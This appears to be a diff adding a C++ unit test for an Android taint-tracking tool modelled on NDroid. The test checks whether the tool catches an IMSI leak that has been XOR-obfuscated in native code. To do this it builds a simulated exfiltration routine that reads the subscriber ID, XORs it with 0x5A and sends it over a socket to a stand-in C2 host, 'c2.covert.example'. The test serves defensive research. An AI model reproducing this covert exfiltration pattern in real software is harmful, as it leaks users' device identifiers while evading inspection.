@@ -1,0 +1,120 @@
+// The paper's §III observation: "apps in the category of 'Communication'
+// often employ native code to hide communication protocols or encrypt data."
+// Byte-level taint tracking must survive such obfuscation: this app XOR
+// "encrypts" the secret in a native loop before sending it, so the bytes on
+// the wire look nothing like the source — but every output byte
+// data-depends on a tainted input byte, and Table V's rules carry the taint
+// through the arithmetic.
+#include <gtest/gtest.h>
+
+#include "apps/native_lib_builder.h"
+#include "core/ndroid.h"
+
+namespace ndroid::core {
+namespace {
+
+using android::Device;
+using arm::Cond;
+using arm::Label;
+using arm::LR;
+using arm::PC;
+using arm::R;
+
+struct CryptoApp {
+  dvm::Method* entry;
+};
+
+CryptoApp build_encrypting_exfiltrator(Device& device) {
+  apps::NativeLibBuilder lib(device, "libcrypto_embedded.so");
+  auto& a = lib.a();
+  const GuestAddr host = lib.cstr("c2.covert.example");
+  const GuestAddr out = lib.buffer(64);
+
+  // void exfil(JNIEnv*, jclass, jstring secret):
+  //   p = GetStringUTFChars(secret);
+  //   for i: out[i] = p[i] ^ 0x5A (keystream stand-in), keeping length;
+  //   send(socket, out, len)
+  const GuestAddr fn = lib.fn();
+  Label loop, done;
+  a.push({R(4), R(5), R(6), LR});
+  a.mov(R(4), R(0));  // env
+  a.mov(R(1), R(2));
+  a.mov_imm(R(2), 0);
+  a.call(device.jni.fn("GetStringUTFChars"));
+  // r0 = p; encrypt into `out`
+  a.mov(R(5), R(0));
+  a.mov_imm32(R(6), out);
+  a.mov_imm(R(3), 0);  // length counter
+  a.bind(loop);
+  a.ldrb_post(R(1), R(5), 1);
+  a.cmp_imm(R(1), 0);
+  a.b(done, Cond::kEQ);
+  a.eor_imm(R(1), R(1), 0x5A);
+  a.strb_post(R(1), R(6), 1);
+  a.add_imm(R(3), R(3), 1);
+  a.b(loop);
+  a.bind(done);
+  a.mov(R(6), R(3));  // length
+  // fd = socket(2,1,0); connect; send(fd, out, len)
+  a.mov_imm(R(0), 2);
+  a.mov_imm(R(1), 1);
+  a.mov_imm(R(2), 0);
+  a.call(device.libc.fn("socket"));
+  a.mov(R(5), R(0));
+  a.mov_imm32(R(1), host);
+  a.movw(R(2), 443);
+  a.call(device.libc.fn("connect"));
+  a.mov(R(0), R(5));
+  a.mov_imm32(R(1), out);
+  a.mov(R(2), R(6));
+  a.call(device.libc.fn("send"));
+  a.pop({R(4), R(5), R(6), PC});
+  lib.install();
+
+  auto& dvm = device.dvm;
+  dvm::ClassObject* app = dvm.define_class("Lcrypto/App;");
+  dvm::Method* exfil = dvm.define_native(
+      app, "exfil", "VL", dvm::kAccPublic | dvm::kAccStatic, fn);
+  dvm::Method* src =
+      device.framework.telephony->find_method("getSubscriberId");
+  dvm::CodeBuilder cb;
+  cb.invoke(src, {}).move_result(0).invoke(exfil, {0}).return_void();
+  dvm::Method* entry = dvm.define_method(
+      app, "main", "V", dvm::kAccPublic | dvm::kAccStatic, 1, cb.take());
+  return CryptoApp{entry};
+}
+
+TEST(Obfuscation, EncryptedExfiltrationStillDetected) {
+  Device device("com.covert.comm");
+  NDroid nd(device);
+  const CryptoApp app = build_encrypting_exfiltrator(device);
+  device.dvm.call(*app.entry, {});
+
+  // The wire bytes are obfuscated (no plaintext IMSI present)...
+  const std::string sent =
+      device.kernel.network().bytes_sent_to("c2.covert.example");
+  ASSERT_FALSE(sent.empty());
+  EXPECT_EQ(sent.find(device.framework.identity().imsi), std::string::npos);
+  // ...and decrypt back to the IMSI, proving real exfiltration.
+  std::string decrypted;
+  for (char c : sent) decrypted.push_back(static_cast<char>(c ^ 0x5A));
+  EXPECT_EQ(decrypted, device.framework.identity().imsi);
+
+  // NDroid still flags it: the taint rode through the XOR loop.
+  ASSERT_FALSE(nd.leaks().empty());
+  EXPECT_EQ(nd.leaks()[0].sink, "send");
+  EXPECT_EQ(nd.leaks()[0].destination, "c2.covert.example");
+  EXPECT_EQ(nd.leaks()[0].taint, kTaintImsi);
+}
+
+TEST(Obfuscation, MissedByTaintDroidAlone) {
+  Device device("com.covert.comm");
+  const CryptoApp app = build_encrypting_exfiltrator(device);
+  device.dvm.call(*app.entry, {});
+  EXPECT_FALSE(
+      device.kernel.network().bytes_sent_to("c2.covert.example").empty());
+  EXPECT_TRUE(device.framework.leaks().empty());
+}
+
+}  // namespace
+}  // namespace ndroid::core
